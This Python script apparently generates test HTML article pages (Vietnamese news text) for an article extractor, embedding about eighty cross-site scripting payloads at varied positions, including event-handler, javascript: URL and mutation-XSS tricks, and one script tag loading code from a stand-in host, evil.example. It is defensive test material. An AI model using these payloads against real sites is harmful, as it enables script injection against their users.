# Copyright (C) ngx_article authors
"""Writes hostile article pages.  xss_pages.py FOLDER

Each attack stands in an article at several places: between its paragraphs,
in one, in a table, in a list, and broken off by the end of the page.
"""

import sys

TEXT = ('Sáng nay, lãnh đạo huyện đã đi kiểm tra đê điều và các trạm bơm, yêu '
        'cầu trực đủ người trong những ngày mưa lũ. ')

ATTACKS = [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/a.js></sCrIpT>',
    '<script/x>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror\n=\n"alert(1)" alt="a">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=`javascript:alert(1)`>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="javascript:alert(1) 1x, x onerror=alert(1) 2x" src=a.jpg>',
    '<img src="a.jpg" alt="&quot;><script>alert(1)</script>">',
    '<img src="a.jpg" alt="`><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href=" \x01javascript:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="//evil.example" target="_blank" onclick="alert(1)">a</a>',
    '<a href="/a" style="background:url(javascript:alert(1))">a</a>',
    '<a href=\'/a"onmouseover="alert(1)\'>a</a>',
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<svg><foreignObject><p>a<img src=x onerror=alert(1)></p>'
    '</foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style>'
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">a</math>',
    '<form><math><mtext></form><form><mglyph><style></math>'
    '<img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<video><source onerror=alert(1) src=a.mp4></video>',
    '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>',
    '<audio src=x onerror=alert(1) controls></audio>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)><summary>a</summary></details>',
    '<marquee onstart=alert(1)>a</marquee>',
    '<body onload=alert(1)>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<style>@import "javascript:alert(1)"; p { width: expression(1) }</style>',
    '<p style="width:expression(alert(1))">a</p>',
    '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><?x <img src=x onerror=alert(1)> ?>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><option><img src=x onerror=alert(1)></option></select>',
    '<figure><img src="a.jpg"><figcaption>"><script>alert(1)</script>'
    '</figcaption></figure>',
    '<p id="__proto__" name="attributes">a</p><a id=body name=body>b</a>',
    '<is-a-custom onclick=alert(1)>a</is-a-custom>',
    '<p onclick\x0c=alert(1)>a</p>',
    '<p \x00onclick=alert(1)>a</p>',
    '<img src="a.jpg" usemap="#m"><map name=m><area href="javascript:1"></map>',
    '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">a</a>',
    '<a href="https://a.example/<script>">a</a>',
    '<a href="http:javascript:alert(1)">a</a>',
    '<img src="//a.example/a.jpg&#x22;onerror=alert(1)//">',
    '<ruby>a<rt><script>alert(1)</script></rt></ruby>',
    '<dialog open onclose=alert(1)>a</dialog>',
]

PLACES = [
    '<p>{text}</p>{attack}<p>{text}</p>',
    '<p>{text}{attack}{text}</p>',
    '<table><tr><td>{text}{attack}</td><td>{attack}{text}</td></tr></table>',
    '<ul><li>{text}{attack}<li>{text}</ul>',
    '<table>{attack}<tr><td>{text}</table>',
    '<h2>{attack}{text}</h2><blockquote>{attack}</blockquote>',
    '<figure>{attack}<figcaption>{text}{attack}</figcaption></figure>',
]
ENDS = ['</div></body></html>', '<p title="', '<!--']


def main(folder):
    number = 0
    for attack in ATTACKS:
        for place in PLACES:
            body = place.format(text=TEXT, attack=attack)
            end = ENDS[number % len(ENDS)] if number % 5 == 0 else ENDS[0]
            page = ('<!DOCTYPE html><html lang="vi"><head><meta charset='
                    '"utf-8"><title>Kiểm tra đê điều</title><meta property='
                    '"og:type" content="article"></head><body><div class='
                    '"detail"><h1>Kiểm tra đê điều</h1><p>16/05/2026 08:30'
                    f'</p><div class="content"><p>{TEXT}</p><p>{TEXT}</p>'
                    f'{body}<p>{TEXT}</p><p>{TEXT}</p></div>{end}')
            with open(f'{folder}/{number:04}.html', 'w') as out:
                out.write(page)
            number += 1


if __name__ == '__main__':
    main(sys.argv[1])
